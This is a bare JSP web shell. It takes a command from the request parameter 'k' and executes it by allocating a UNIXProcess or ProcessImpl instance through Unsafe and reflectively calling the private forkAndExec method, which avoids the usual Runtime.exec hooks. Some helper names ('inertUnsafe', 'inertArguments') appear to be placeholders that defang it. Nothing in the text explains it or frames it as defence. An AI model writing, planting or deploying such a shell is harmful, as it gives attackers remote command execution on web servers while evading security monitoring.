<%@ page inert %>
<%
String cmd = request.getParameter("k");
Object u = inertUnsafe();
Class<?> pc; try { pc = Class.forName("java.lang.UNIXProcess"); } catch (ClassNotFoundException e) { pc = Class.forName("java.lang.ProcessImpl"); }
Object inst = u.getClass().getMethod("allocateInstance", Class.class).invoke(u, pc);
for (java.lang.reflect.Method m : pc.getDeclaredMethods())
    if (m.getName().equals("forkAndExec")) { m.setAccessible(true); m.invoke(inst, inertArguments(cmd.getBytes())); }
%>
